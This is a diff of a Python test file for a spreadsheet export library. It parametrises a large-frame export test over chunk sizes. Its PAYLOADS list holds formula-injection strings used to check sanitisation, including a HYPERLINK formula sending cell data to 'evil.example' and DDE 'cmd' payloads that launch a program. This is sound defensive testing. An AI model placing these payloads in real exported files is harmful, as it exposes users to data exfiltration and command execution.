@@ -8,8 +8,10 @@ import zipfile
 
 import openpyxl
 import polars as pl
+import pytest
 
-from jingkai.spreadsheets import INTEGER, NUMBER, PERCENT, Book, Col, csv_safe, csv_safe_frame
+from jingkai import spreadsheets
+from jingkai.spreadsheets import CHUNK, INTEGER, NUMBER, PERCENT, Book, Col, csv_safe, csv_safe_frame
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
             "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -69,9 +71,11 @@ def large_sheet(tmp_path, rows, name: str) -> tuple[bytes, str]:
     return out.read_bytes(), zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
 
 
-def test_a_frame_is_written_as_its_rows_one_by_one_would_be(tmp_path):
+@pytest.mark.parametrize("chunk", [CHUNK, 3])  # one block of rows, and blocks of 3 (the last one shorter)
+def test_a_frame_is_written_as_its_rows_one_by_one_would_be(tmp_path, monkeypatch, chunk):
     """The vectorised path of a large export writes the XML XlsxWriter writes cell by cell (numbers may be
     spelled shorter, the same value), formulas stay text, and two runs give the same bytes."""
+    monkeypatch.setattr(spreadsheets, "CHUNK", chunk)
     blob, fast = large_sheet(tmp_path, LARGE_FRAME, "fast.xlsx")
     _, slow = large_sheet(tmp_path, LARGE_FRAME.iter_rows(), "slow.xlsx")
 
